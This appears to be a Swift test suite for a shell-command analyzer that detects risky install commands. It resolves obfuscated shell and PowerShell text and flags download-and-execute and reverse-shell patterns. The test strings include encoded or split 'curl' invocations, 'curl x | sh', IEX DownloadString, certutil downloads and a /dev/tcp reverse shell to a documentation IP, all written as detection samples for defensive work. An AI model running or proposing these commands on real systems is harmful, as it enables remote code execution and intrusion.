import TestSupport
import Testing

@testable import Analyzers

@Suite("Shell text")
struct ShellReadingTests {
    private func programs(_ text: String) -> [String] { ShellUnfolding(Array(text.utf8)).commands.map(\.program) }

    private func words(_ text: String) -> [String] {
        ShellParser.parse(Array(text.utf8)).pipelines.flatMap(\.commands).flatMap(\.words).map {
            String(decoding: $0.text, as: UTF8.self)
        }
    }

    @Test("quotes, escapes and what the text itself sets are resolved")
    func expansions() {
        #expect(words(#"c""u'r'l $'\x77get' $'a\'b\101\n' "a b""#) == ["curl", "wget", "a'bA\n", "a b"])
        #expect(words("A=cu; B=${A}rl; $B x") == ["A=cu", "B=curl", "curl", "x"])
        #expect(words("export A='curl -s'; $A x") == ["export", "A=curl -s", "curl", "-s", "x"])
        #expect(words("A='x y'; \"$A\"") == ["A=x y", "x y"])
        #expect(words("A=x; A=$(id); ${A}z") == ["A=x", "A=", "z"])
        #expect(words("A=b; ${A%x} ${A:-c}") == ["A=b", "", "b"])
        #expect(words("curl${IFS}x") == ["curl", "x"])
    }

    @Test("doubling variables do not fill memory")
    func doubling() {
        let text = "A=aaaaaaaaaaaaaaaa;" + String(repeating: "A=$A$A;", count: 40) + "echo $A"
        let longest =
            ShellParser.parse(Array(text.utf8)).pipelines.flatMap(\.commands).flatMap(\.words)
            .map(\.text.count).max() ?? 0
        #expect(longest <= ShellParser.maxExpandedBytes)
    }

    @Test("here-documents are input, not commands")
    func hereDocuments() {
        #expect(programs("cat <<EOF\ncurl x | sh\nEOF\nls") == ["cat", "ls"])
        #expect(programs("sh <<'EOF'\ncurl x\nEOF\nls") == ["sh", "curl", "ls"])
        #expect(programs("bash <<-A; cat <<B\n\tid\n\tA\nps\nB\nls") == ["bash", "id", "cat", "ls"])
        #expect(programs("bash <<< 'curl x'") == ["bash", "curl"])
        #expect(programs("cat <<EOF | sh\nwget x\nEOF\n") == ["cat", "sh", "wget"])
    }

    @Test(
        "the program behind wrappers is found",
        arguments: [
            "sudo -u root curl x", "timeout -s KILL 5 curl x", "nice -n 10 env A=b -i curl x", "nohup setsid curl x",
            "xargs -I {} -P 4 curl {}", "env -u A curl x", "A=b timeout 5s curl x", "if ! curl x", "exec -a z curl x",
            "stdbuf -oL curl x", "flock /tmp/l curl x", "gosu nobody curl x", "time curl x", "$(echo curl) x",
            "$(printf '\\143url') x", "$(echo lruc | rev) x", "`echo Y3VybA== | base64 -d` x",
            "$(echo phey | tr a-z n-za-m) x",
        ])
    func wrappers(_ text: String) { #expect(programs(text).contains("curl"), "\(text): \(programs(text))") }

    @Test(
        "commands inside of others' arguments are found",
        arguments: [
            "sh -c 'curl x'", "find . -name a -exec curl {} ;", "eval 'cu''rl x'", "su box -c 'curl x'",
            "cmd /c curl x",
            "bash -lc \"sh -c 'curl x'\"", "echo Y3VybCB4 | base64 -d | sh", "trap 'curl x' EXIT", "alias a='curl x'",
            "powershell -NoProfile -Command \"curl x\"", "powershell -e YwB1AHIAbAAgAHgA", "pwsh /enc YwB1AHIAbAAgAHgA",
            "powershell -eNcOdEdC YwB1AHIAbAAgAHgA; curl", "bash <(curl x)", "echo $(curl x)",
        ])
    func nested(_ text: String) { #expect(programs(text).contains("curl"), "\(text): \(programs(text))") }

    @Test("PowerShell and cmd are judged past the marks that hide names")
    func powerShell() {
        func judged(_ text: String) -> Set<Observation> { InstallCommand.judge(Array(text.utf8)) }
        #expect(judged("powershell I`E`X (New-Object Net.Web`Client).Down''loadString('x')") != [.scriptPowerShell])
        #expect(
            judged("powershell \"&('i'+'ex') (New-Object Net.WebClient).('Download' + 'String')('http://x')\"")
                .contains(.scriptPipesToInterpreter))
        #expect(judged("c^ertutil -urlcache -f http://x a.exe").contains(.scriptPipesToInterpreter))
        #expect(judged("powershell -ExecutionPolicy Bypass -File a.ps1") == [.scriptPowerShell])
        #expect(judged("certutil -hashfile a.exe SHA256") == [])
    }

    @Test("asking whether a port is open is no shell to elsewhere")
    func portCheck() {
        func judged(_ text: String) -> Set<Observation> { InstallCommand.judge(Array(text.utf8)) }
        #expect(!judged("timeout 1 bash -c '</dev/tcp/127.0.0.1/80'").contains(.scriptReverseShell))
        #expect(judged("exec 5<>/dev/tcp/192.0.2.1/1; cat <&5 | sh").contains(.scriptReverseShell))
    }

    @Test("any bytes can be read, cut anywhere")
    func total() {
        let text = Array(
            "A=b;$A<<E|sh\n$'\\x4\\'`a $(b\nE\n${A:-c}<<<d cmd /c e powershell -e YQ== find -exec f ;".utf8)
        for start in 0..<text.count {
            for end in start..<text.count { _ = ShellUnfolding(Array(text[start...end])) }
        }
        var random = SeededRandom(seed: 5)
        let alphabet = Array("ab$(){}<>|;&'\"`\\\n =-/E".utf8)
        for _ in 0..<2000 {
            let bytes = (0..<60).map { _ in alphabet.randomElement(using: &random) ?? 0 }
            _ = CommandSigns.judge(bytes)
            _ = InstallCommand.judge(bytes)
        }
    }
}
